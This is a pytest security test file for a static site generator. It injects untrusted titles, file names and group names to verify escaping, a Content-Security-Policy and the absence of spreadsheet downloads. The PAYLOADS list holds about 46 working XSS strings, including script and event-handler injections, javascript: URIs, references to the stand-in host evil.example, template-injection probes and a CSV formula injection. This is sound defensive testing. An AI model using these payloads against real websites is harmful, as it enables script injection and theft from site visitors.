"""Names and metadata written by strangers stay text: no script of theirs runs, whether or not the policy is obeyed.

The fabricated run is given one payload after the other in every title, licence, citation and address, as the name of
every image, person and group column, and as the value of every group.
"""

import json
import re
from itertools import cycle, islice
from pathlib import Path
from urllib.parse import urlsplit

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from breakages import Breakage
from markupsafe import escape

import browsing
import fabricate
from conftest import REPOSITORY
from html_pages import Page

BREAKAGES = [
    Breakage(
        "pages have no policy",
        "site_templates/base.html",
        "script-src 'self';",
        "script-src 'self' 'unsafe-inline';",
        "test_every_page_has_a_policy_that_allows_no_inline_script",
    ),
    Breakage(
        "what strangers wrote is not escaped",
        "workflow/scripts/whyface/site/rendering/writer.py",
        "autoescape=True,",
        "autoescape=False,",
        "test_no_page_runs_anything",
    ),
    Breakage(
        "names of files are not escaped",
        "site_templates/_pair_macros.html",
        "{{ part }}{% if",
        "{{ part|safe }}{% if",
        "test_no_page_runs_anything",
    ),
    Breakage(
        "tables are offered in a form whose cells spreadsheets run",
        "site_templates/data.html",
        '{{ root }}{{ file.href }}" download>',
        '{{ root }}{{ file.href }}.csv" download>',
        "test_no_file_for_readers_is_run_by_the_program_that_opens_it",
    ),
]

ROW = "site attacked: payloads"
RUN = "window.pwned=1;alert(1)"
HANDLERS = """[...document.querySelectorAll("*")].flatMap((one) => one.getAttributeNames())
.filter((name) => name.startsWith("on")).length"""
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</template><img src=x onerror={RUN}>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}//",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}',
    f"' onfocus='{RUN}' autofocus='",
    f"` onfocus={RUN} autofocus `",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<iframe src='javascript:parent.{RUN}'>",
    f"<object data='javascript:{RUN}'>",
    f"<a href='javascript:{RUN}'>go</a>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<img src=https://evil.example/x.png>",
    "<script src=https://evil.example/x.js></script>",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f'https://example.org/"onclick="{RUN}',
    "//evil.example/",
    "{{7*7}}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"<!--<script>{RUN}",
    "\u202e<script>\u2028\u2029",
    "=cmd|' /C calc'!A0",
)


TEXTS = 21  # in the config


def attacked_config(payloads):
    """Make the fabricated run's config, with a payload in every text that a stranger may have written."""
    found = fabricate.config()
    for collection in found["collections"].values():
        collection.update({key: next(payloads) for key in ("title", "licence", "citation", "homepage", "notice")})
    for dataset in found["datasets"].values():
        dataset["title"] = next(payloads)
    for model in found["models"].values():
        model.update({key: next(payloads) for key in ("title", "licence", "citation", "homepage")})
    found["site"]["title"] = next(payloads)
    return found


GROUPS = ("pose", "half", "age", "left", "right", "few", "side", "odd", "even", "9", "10", fabricate.HOSTILE_GROUP)


def attack_tables(results, start):
    """Rename every image, person, group column and group in all tables, as if lists could hold such names."""
    photos = pq.read_table(results / "tables/images/collection=photos/images.parquet", partitioning=None).to_pandas()
    images, people = sorted({*photos["image_id"]} - {"!"}), sorted({*photos["subject_id"]})
    named = {old: new for names in (images, people) for old, new in zip(names, payloads(start), strict=False)}
    named["person01/0003.jpg"] = named[fabricate.HOSTILE]  # as it is called in the other collection
    groups = dict(zip(GROUPS, payloads(start), strict=False))
    for path in sorted(results.rglob("tables/**/*.parquet")):
        table = pq.read_table(path, partitioning=None)
        about = table.schema.metadata
        for place, column in enumerate(table.schema):
            is_group = (column.metadata or {}).get(b"description") == b"group column"
            known = named | (groups if is_group or column.name in ("column", "group_a", "group_b") else {})
            if pa.types.is_string(column.type):
                texts = [rename(text, known, groups[fabricate.HOSTILE_GROUP]) for text in table[place].to_pylist()]
                field = column.with_name(groups[column.name]) if is_group else column
                table = table.set_column(place, field, pa.array(texts, pa.string()))
        table = table.replace_schema_metadata(about)
        pq.write_table(table, path)
    return {*named.values(), *groups.values()}


def rename(text, known, group):
    """Rename what is a name, or has that of a group in it."""
    if not text or text in known:
        return known.get(text, text)
    return text.replace(fabricate.HOSTILE_GROUP, json.dumps(group)[1:-1] if text.startswith("{") else group)


def payloads(start):
    """Yield all payloads, from one of them on, for ever."""
    return islice(cycle(PAYLOADS), start, None)


@pytest.fixture(
    scope="module", params=[(0, 12), *(pytest.param((start, 46), marks=pytest.mark.long) for start in (12, 24, 36))]
)
def attacked(request, tmp_path_factory):
    """Return a site of so many pairs with every text and name hostile, its names, and all payloads that it has."""
    from whyface.site import render_site

    start, pairs = request.param
    folder = tmp_path_factory.mktemp("attacked")
    made = fabricate.results(folder / "results", pairs)
    fabricate.groups_of_people(made)
    fabricate.groups_of_pairs(made)
    names = attack_tables(made, start)
    texts = [*islice(payloads(start + 12), TEXTS)]  # others than the first names: what pages show is told apart
    render_site(attacked_config(iter(texts)), made, folder / "site", REPOSITORY / "site_templates")
    return folder / "site", names, {*names, *texts}


def test_every_page_has_a_policy_that_allows_no_inline_script(attacked, tried):
    site, names, _ = attacked
    pages, unseen = sorted(site.rglob("*.html")), {str(escape(name)) for name in names}
    for page in pages:
        text = page.read_text(encoding="utf-8")
        policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', text)
        assert policy and text.index(policy[0]) < text.index("<title>"), page
        assert "default-src 'none'" in policy[1] and "script-src 'self';" in policy[1], page
        assert not re.search(r'(href|src)="\s*(javascript|vbscript|data:text)', text, re.IGNORECASE), page
        assert 'href="//evil' not in text, page
        whole = text.replace("<wbr>", "")  # where names of files may break
        unseen -= {name for name in unseen if name in whole}
    assert unseen == set(), "a name that no page shows attacks nothing"
    tried("site attacked: pages with their policy", len(pages))


def test_no_file_for_readers_is_run_by_the_program_that_opens_it(attacked, tried):
    """Spreadsheets take cells that begin with = for formulas, so that tables are offered as Parquet alone."""
    site, *_ = attacked
    links = {link for page in site.rglob("*.html") for tag, link in Page(page).links() if tag == "a"}
    local = {Path(urlsplit(link).path).suffix for link in links if not urlsplit(link).scheme}
    assert local <= {"", ".html", ".parquet", ".svg"}
    kinds = {path.suffix for path in site.rglob("*") if path.is_file()}
    assert kinds <= {".html", ".parquet", ".svg", ".js", ".css", ".webp", ".txt"}
    tried("site attacked: kinds of files", len(kinds))


@pytest.mark.slow
@pytest.mark.parametrize(
    ("place", "obeyed"),
    [
        pytest.param("disk", False, id="disk, no policy"),
        pytest.param("sub-path", True, id="sub-path, policy"),
        pytest.param("disk", True, id="disk, policy", marks=pytest.mark.long),
        pytest.param("sub-path", False, id="sub-path, no policy", marks=pytest.mark.long),
    ],
)
def test_no_page_runs_anything(attacked, browser, place, obeyed, tried):
    site, _, used = attacked
    pages = [page.relative_to(site).as_posix() for page in sorted(site.rglob("*.html"))]
    of_pairs = [page for page in pages if "/p/" in page]
    few = [page for page in pages if "/p/" not in page] + of_pairs[: 4 if len(of_pairs) < 100 else 46]
    dialogs = []

    def visit(root):
        with browsing.watched(browser, bypass_csp=not obeyed, viewport=browsing.DESK) as tab:
            tab.on("dialog", lambda dialog: dialogs.append(dialog.message) or dialog.dismiss())
            for page in few:
                tab.goto(root + page)
                assert tab.evaluate("window.pwned") is None and tab.url.startswith(root), page
                assert tab.locator("iframe, object, embed, base").count() == 0, page
                assert tab.evaluate(HANDLERS) == 0, page

    if place == "disk":
        visit(site.as_uri() + "/")
    else:
        with browsing.served(site) as root:
            visit(root)
    assert dialogs == []
    tried(ROW, len(used))
